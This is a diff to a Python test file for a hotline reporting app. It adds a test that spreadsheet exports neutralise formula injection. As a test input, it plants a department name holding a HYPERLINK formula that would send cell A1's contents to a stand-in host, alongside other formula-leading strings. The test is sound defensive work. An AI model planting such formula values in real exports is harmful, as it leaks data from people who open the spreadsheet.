@@ -15,7 +15,7 @@ from hotline.indicators.periods import Period
 from hotline.indicators.reports import generate_due_reports
 from hotline.models import Report
 from tests.conftest import local
-from tests.helpers import PASSWORD, make_dispatched
+from tests.helpers import PASSWORD, make_dispatched, sign_in
 from tests.test_stats import as_, november, replied_in_october  # noqa: F401  (the hand-built November of test_stats)
 
 NOV = {"from": "2026-11-01", "to": "2026-11-30"}
@@ -104,7 +104,7 @@ def test_the_monthly_report_holds_the_figures_of_department_stats(runtime, clock
 
 
 def _login(client, username: str) -> None:
-    r = client.post("/login", data={"username": username, "password": PASSWORD}, follow_redirects=False)
+    r = sign_in(client, username, PASSWORD)
     assert r.status_code == 303, r.text
 
 
@@ -265,3 +265,28 @@ def test_bad_periods_are_refused_plainly(client, district):
     assert client.get("/analysis", params={"month": "2027-01"}).status_code == 422  # not begun
     assert client.get("/performance", params={"week": "2026-W53"}).status_code == 422  # 2026 has 52
     assert client.get("/performance", params={"week": "2026-W45"}).status_code == 200
+
+
+def test_exports_write_formulas_as_text(client, runtime, november):  # noqa: F811
+    """A name that begins like a formula reaches the spreadsheet as the text it is."""
+    from hotline.models import Department
+
+    evil = '=HYPERLINK("http://example.invalid/?q="&A1,"点我")'
+    with runtime.db.session() as s:
+        housing = s.exec(select(Department).where(Department.code == "housing")).one()
+        housing.name = evil
+        s.add(housing)
+    _login(client, "supervisor")
+    lines = client.get("/performance/export.csv", params={"month": "2026-11"}).content.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in lines and "\n=HYPERLINK" not in lines and ",=HYPERLINK" not in lines
+    content = client.get("/performance/export.xlsx", params={"month": "2026-11"}).content
+    ws = load_workbook(io.BytesIO(content))["绩效考核"]
+    cell = next(row[1] for row in ws.iter_rows(min_row=4) if row[1].value == evil)
+    assert cell.data_type == "s"  # a string, not a formula
+    import zipfile
+
+    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert reports.neutral(text) == "'" + text
+    assert reports.neutral("普通文本") == "普通文本" and reports.neutral(-3) == -3
